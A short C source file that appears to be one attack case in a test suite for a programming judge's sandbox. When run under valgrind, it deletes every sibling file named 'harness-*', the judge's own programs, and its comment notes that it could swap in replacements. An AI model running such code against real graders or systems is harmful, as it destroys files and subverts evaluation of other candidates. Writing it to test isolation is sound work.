/* Under valgrind it removes the programs beside the one it runs in, which the
 * judge starts for every later candidate; it could put others in their place.
 * Attacks: a candidate changes no files, and honest candidates after it are
 * unharmed. Touches nothing whose name does not begin with harness-. */
#include "attempt.h"
#include "valgrind.h"
#include <dirent.h>

static void attempt(void)
{
	char at[4096];
	if (!under_valgrind())
		return;
	const ssize_t n = readlink("/proc/self/exe", at, sizeof at - 1);
	if (n <= 0)
		return;
	at[n] = 0;
	char *slash = strrchr(at, '/');
	if (!slash || strncmp(slash, "/harness-", 9))
		return;
	*slash = 0;
	DIR *d = opendir(at);
	for (struct dirent *e; d && (e = readdir(d));)
		if (!strncmp(e->d_name, "harness-", 8))
			unlinkat(dirfd(d), e->d_name, 0);
	if (d)
		closedir(d);
}
